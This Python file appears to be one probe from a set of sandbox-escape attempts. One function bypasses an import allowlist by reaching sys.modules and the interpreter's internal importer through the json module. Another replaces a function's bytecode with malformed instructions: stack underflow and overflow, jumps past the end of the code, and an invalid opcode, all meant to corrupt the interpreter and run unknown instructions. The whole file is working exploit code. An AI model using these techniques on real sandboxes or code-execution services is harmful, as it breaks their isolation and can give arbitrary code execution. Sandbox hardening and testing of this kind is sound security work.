# trick: bytecode that pops an empty stack, pushes over its end, jumps out of its code and runs unknown instructions
# want: any


def reach(name):
    """The module of that name, past the allowlist: a loaded one, else through the interpreter's own import."""
    import json
    codecs = json.codecs
    modules = codecs.sys.modules
    if modules.get(name) is None:
        try:
            codecs.builtins.__import__(name)
        except ImportError:
            modules["_frozen_importlib"]._gcd_import(name)
    print("reached", name)
    return modules[name]


def run(ctx):
    import dataclasses
    ops = dataclasses.inspect.dis.opmap

    def victim():
        return None

    resume = (ops["RESUME"], 0)
    bodies = [(ops["RETURN_VALUE"], 0), (*((ops["LOAD_CONST"], 0) * 5000), ops["RETURN_VALUE"], 0), (ops["JUMP_FORWARD"], 255), (*((ops["POP_TOP"], 0) * 400), ops["RETURN_VALUE"], 0),
              (ops["LOAD_CONST"], 0, ops["BUILD_LIST"], 255, ops["RETURN_VALUE"], 0), (ops["COPY"], 200, ops["RETURN_VALUE"], 0), (255, 255), (ops["CALL"], 250), (ops["LOAD_CONST"], 0)]
    results = []
    for body in bodies:
        try:
            victim.__code__ = victim.__code__.replace(co_code=bytes(resume + body), co_exceptiontable=b"", co_stacksize=1)
            results.append(type(victim()).__name__)
        except Exception as e:
            results.append(type(e).__name__)
    return results
